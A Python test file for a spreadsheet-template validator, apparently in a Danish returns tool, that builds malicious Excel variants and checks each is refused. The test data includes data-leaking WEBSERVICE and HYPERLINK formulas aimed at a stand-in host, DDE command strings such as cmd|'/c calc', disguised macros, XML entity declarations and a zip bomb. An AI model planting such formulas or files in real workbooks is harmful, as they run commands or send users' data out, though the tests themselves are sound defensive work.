"""What a template must not be: each is refused with one sentence, before anything of it is used."""

from __future__ import annotations

import io
import time
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from xml.sax.saxutils import escape

import msoffcrypto.format.ooxml
import pytest

from exitdesk.errors import UserError
from exitdesk.returns.profiles import load_profile
from exitdesk.returns.template.fill import fill
from exitdesk.returns.template.filling import read_template, suggested_mapping, template_of
from exitdesk.returns.template.outgoing import leads_out
from exitdesk.returns.template.package import Package
from exitdesk.returns.template.properties import without_names
from tests.returns.agency_templates import by_xlsxwriter, parts_of, with_parts

ESBJERG = load_profile("reden-esbjerg")
PLAIN = by_xlsxwriter(ESBJERG)
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def replaced(part: str, old: bytes, new: bytes) -> bytes:
    found: list[str] = []

    def change(name: str, content: bytes) -> bytes:
        if name == part and old in content:
            found.append(name)
            return content.replace(old, new, 1)
        return content

    data = with_parts(PLAIN, change)
    assert found, f"{old!r} stands in {part}"
    return data


def relation(kind: str, target: str, *, outside: bool) -> bytes:
    mode = ' TargetMode="External"' if outside else ""
    one = f'<Relationship Id="rIdX" Type="{RELATIONS}/{kind}" Target="{target}"{mode}/>'
    return replaced("xl/_rels/workbook.xml.rels", b"</Relationships>", one.encode() + b"</Relationships>")


def encrypted() -> bytes:
    target = io.BytesIO()
    msoffcrypto.format.ooxml.OOXMLFile(io.BytesIO(PLAIN)).encrypt("hemmelig", target)
    return target.getvalue()


def bomb() -> bytes:
    target = io.BytesIO(PLAIN)
    with zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as archive:
        for number in range(4):
            archive.writestr(f"xl/media/image{number + 7}.bin", b"\0" * (60 * 2**20))
    return target.getvalue()


def formula_in(part: str, before: bytes, xml: str) -> bytes:
    return replaced(part, before, xml.encode() + before)


def cell(formula: str) -> Callable[[], bytes]:
    """On a hidden sheet, where nobody looks."""
    found = f'<row r="90"><c r="C90"><f>{escape(formula)}</f></c></row>'
    return lambda: formula_in("xl/worksheets/sheet3.xml", b"</sheetData>", found)


LEADS_OUT = (
    'WEBSERVICE("http://x.dk/"&A6)', '_xlfn.WEBSERVICE("http://x.dk")', "1+_xlfn.FILTERXML(A1,B1)", "rtd(\"a\",,B6)",
    'HYPERLINK("https://x.dk/?"&_xlfn.ENCODEURL(A6),"Klik")', 'HYPERLINK("https://x.dk/?"&A6)', "HYPERLINK(A6)",
    "cmd|'/c calc'!A1", "'cmd|/c calc'!A1", "[1]Ark1!A1+2", "SUM('[1]Et ark'!A1:B2)", "'C:\\x\\[a.xlsx]Ark'!A1",
    "[1]!navn", "'file:///c:/a.xlsx'#$Ark.A1", '_xlfn.IMAGE("https://x.dk/"&A6)', 'DDE("soffice","a","b")',
)  # fmt: skip
STAYS_INSIDE = (
    "COUNTIF(A6:A60,\"ja\")", "Tabel1[[#This Row],[Antal [a]]]", "SUM(Tabel1[Antal],Ark1!A1)", "'Et ark'!A1&\"|\"",
    'HYPERLINK("https://x.dk/vejledning","Vejledning")', 'HYPERLINK("#Lister!A1","Lister")', 'HYPERLINK("#"&A6)',
    '"=WEBSERVICE("&A1', "'a|b'!A1", "IF(B[@Køn]=\"[1]Ark!A1\",1,2)", "MYIMAGE(A1)", "Ark1!A1=[@Alder]",
)  # fmt: skip


@pytest.mark.parametrize("formula", LEADS_OUT)
def test_a_formula_that_leads_out_of_the_file_is_refused_with_its_place(formula: str) -> None:
    with pytest.raises(UserError, match=r"send or fetch.*Lister!C90"):
        template_of(cell(formula)(), "skema.xlsx", ESBJERG)


@pytest.mark.parametrize("formula", STAYS_INSIDE)
def test_a_formula_that_stays_in_the_file_is_none_of_those(formula: str) -> None:
    assert not leads_out(formula, ["Et ark", "Ark1", "a|b"])


def test_no_spelling_of_the_file_hides_a_formula() -> None:
    for spelt in ("WEB&#83;ERVICE(A1)", "WEB<!-- -->SERVICE(A1)", "<![CDATA[WEBSERVICE(A1)]]>"):
        found = f'<row r="90"><c r="C90"><f>{spelt}</f></c></row>'
        with pytest.raises(UserError, match="send or fetch"):
            template_of(formula_in("xl/worksheets/sheet3.xml", b"</sheetData>", found), "skema.xlsx", ESBJERG)


RULE = (
    '<dataValidations count="1"><dataValidation type="list" sqref="B6:B20"><formula1>{f}</formula1></dataValidation>'
    "</dataValidations>"
)
COLOUR = (
    '<conditionalFormatting sqref="D2"><cfRule type="expression" priority="9"><formula>{f}</formula></cfRule>'
    "</conditionalFormatting>"
)
ELSEWHERE: dict[str, tuple[str, bytes, str, str]] = {
    "a name": ("xl/workbook.xml", b"</definedNames>", '<definedName name="Sats">{f}</definedName>', "the name “Sats”"),
    "a list": ("xl/worksheets/sheet3.xml", b"<pageMargins", RULE, "Lister!B6:B20"),
    "a colour": ("xl/worksheets/sheet3.xml", b"<pageMargins", COLOUR, "Lister!D2"),
}


@pytest.mark.parametrize("place", ELSEWHERE)
def test_names_lists_and_colours_lead_nowhere_either(place: str) -> None:
    part, before, xml, told = ELSEWHERE[place]
    data = formula_in(part, before, xml.format(f='WEBSERVICE("http://x.dk/")'))
    with pytest.raises(UserError, match=f"send or fetch.*{told}"):
        template_of(data, "skema.xlsx", ESBJERG)


DOCTYPE = b'<!DOCTYPE worksheet [<!ENTITY a "b">]>\n<worksheet'
MACRO_TYPE = b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "macros": (lambda: with_parts(PLAIN, lambda _n, c: c, {"xl/vbaProject.bin": b"x"}), "macros"),
    "macros under another name": (lambda: replaced("[Content_Types].xml", b"</Types>", MACRO_TYPE), "macros"),
    "a macro workbook renamed": (
        lambda: replaced(
            "[Content_Types].xml", b"openxmlformats-officedocument.spreadsheetml.sheet.main",
            b"ms-excel.sheet.macroEnabled.main",
        ),
        "macros",
    ),
    "a document template renamed": (
        lambda: replaced("[Content_Types].xml", b"spreadsheetml.sheet.main", b"spreadsheetml.template.main"),
        "not an Excel workbook",
    ),
    "external links": (
        lambda: with_parts(PLAIN, lambda _n, c: c, {"xl/externalLinks/externalLink1.xml": b"<a/>"}), "stands alone"
    ),
    "connections": (lambda: with_parts(PLAIN, lambda _n, c: c, {"xl/connections.xml": b"<a/>"}), "stands alone"),
    "a picture on the net": (lambda: relation("image", "https://example.org/a.png", outside=True), "stands alone"),
    "encrypted": (encrypted, "password"),
    "strict": (
        lambda: replaced(
            "xl/workbook.xml", b"http://schemas.openxmlformats.org/spreadsheetml/2006/main",
            b"http://purl.oclc.org/ooxml/spreadsheetml/main",
        ),
        "Strict",
    ),
    "a document type": (lambda: replaced("xl/worksheets/sheet2.xml", b"<worksheet", DOCTYPE), "declarations"),
    "cut off": (lambda: PLAIN[: len(PLAIN) // 2], "damaged"),
    "a word where a number belongs": (
        lambda: replaced("xl/worksheets/sheet2.xml", b'<row r="4"', b'<row r="x"'), "damaged"
    ),
    "half a sheet": (lambda: replaced("xl/worksheets/sheet2.xml", b"</sheetData>", b""), "damaged"),
    "a bomb": (bomb, "too large"),
    "two parts of one name": (lambda: _doubled(), "damaged"),
    "a part that does not unpack": (lambda: _one_bit_wrong(), "damaged"),
    "a sheet of many rows": (lambda: _large("xl/worksheets/sheet2.xml", b" " * 17 * 2**20), "empty one"),
    "a sheet of many cells": (lambda: _many_cells(), "empty one"),
    "pictures without end": (lambda: _large("xl/media/image9.png", bytes(65 * 2**20)), "empty one"),
    "no sheet with headers": (
        lambda: replaced("xl/workbook.xml", b'name="Registrering 2026"', b'name="x" state="hidden"'), "headers"
    ),
}  # fmt: skip


def _doubled() -> bytes:
    target = io.BytesIO(PLAIN)
    with warnings.catch_warnings(), zipfile.ZipFile(target, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr("xl/worksheets/sheet2.xml", b"<a/>")
    return target.getvalue()


def _one_bit_wrong() -> bytes:
    """In a picture, which nobody looks into before: its first byte names a kind of packing that there is not."""
    with zipfile.ZipFile(io.BytesIO(PLAIN)) as archive:
        info = archive.getinfo("xl/media/image1.png")
    data = bytearray(PLAIN)
    data[info.header_offset + 30 + len(info.filename.encode())] |= 0b110
    return bytes(data)


def _large(part: str, content: bytes) -> bytes:
    """A part with more behind it; stored, for what is packed so well is refused before."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(PLAIN)) as source, zipfile.ZipFile(target, "w") as copy:
        for name in dict.fromkeys([*source.namelist(), part]):
            before = source.read(name) if name in source.namelist() else b""
            copy.writestr(name, before + (content if name == part else b""))
    return target.getvalue()


def _many_cells() -> bytes:
    """Borders for more rows than anybody fills in."""
    row = b"<row>" + b"<c s='1'/>" * 100 + b"</row>"
    return replaced("xl/worksheets/sheet2.xml", b"</sheetData>", row * 4_001 + b"</sheetData>")


@pytest.mark.parametrize("what", REFUSED)
def test_it_is_refused_with_one_sentence(what: str, tmp_path: Path) -> None:
    make, words = REFUSED[what]
    path = tmp_path / "skema.xlsx"
    path.write_bytes(make())
    began = time.perf_counter()
    with pytest.raises(UserError, match=words) as refused:
        read_template(path, ESBJERG)
    assert time.perf_counter() - began < 2
    assert "\n" not in str(refused.value) and "Traceback" not in str(refused.value)


@pytest.mark.parametrize("ending", [".xlsm", ".xls", ".xlsb", ".ods", ".XLTM"])
def test_files_of_another_kind_are_refused_by_name(ending: str, tmp_path: Path) -> None:
    path = tmp_path / f"skema{ending}"
    path.write_bytes(PLAIN)
    with pytest.raises(UserError, match="not an Excel workbook"):
        read_template(path, ESBJERG)


def test_a_user_who_saved_the_template_does_not_leave_with_it(tmp_path: Path) -> None:
    for saved_by, stays in (("Mette Hansen", False), ("Styrelsen", True), ("Mettelise", True)):
        path = tmp_path / "skema.xlsx"
        path.write_bytes(by_xlsxwriter(ESBJERG, saved_by=saved_by))
        template = read_template(path, ESBJERG)
        mapping, _ = suggested_mapping(template, ESBJERG)
        filled = fill(template.package, mapping.sheet, [], without_names(template.package, {"mette"}))
        assert (saved_by.encode() in parts_of(filled.data)["docProps/core.xml"]) is stays
        assert ("docProps/core.xml" in filled.changed_parts) is not stays


def test_a_list_of_another_sheet_is_read_once_however_many_columns_have_it(monkeypatch: pytest.MonkeyPatch) -> None:
    parsed: list[str] = []
    parse = Package.xml

    def counted(package: Package, part: str) -> object:
        parsed.append(part)
        return parse(package, part)

    monkeypatch.setattr(Package, "xml", counted)
    template = template_of(PLAIN, "skema.xlsx", ESBJERG)
    lists = {column.choices for column in template.sheets[0].columns if column.choices}
    assert len(lists) > 1
    sheets = [part for part in parsed if part.startswith("xl/worksheets/sheet")]
    assert len(sheets) == len(set(sheets))


def test_reading_tells_how_far_it_is_and_can_be_stopped() -> None:
    told: list[tuple[int, int]] = []
    template_of(PLAIN, "skema.xlsx", ESBJERG, lambda done, of: told.append((done, of)))
    assert told[0][0] == 0
    assert len(told) == told[0][1] > 1

    class Stop(Exception):
        pass

    def stop(_done: int, _of: int) -> None:
        raise Stop

    with pytest.raises(Stop):
        template_of(PLAIN, "skema.xlsx", ESBJERG, stop)
